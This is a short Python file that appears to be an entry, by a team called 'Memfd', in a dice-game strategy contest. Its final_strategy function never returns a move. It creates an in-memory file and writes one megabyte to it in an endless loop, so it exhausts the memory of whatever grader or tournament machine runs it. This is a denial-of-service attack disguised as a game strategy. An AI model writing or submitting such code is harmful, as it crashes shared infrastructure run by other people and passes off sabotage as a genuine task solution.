"""Keeps memory in files that exist only in memory."""
import os

TEAM_NAME = "Memfd"


def final_strategy(score, opponent_score):
    file = os.memfd_create("pig")
    while True:
        os.write(file, bytes(1 << 20))
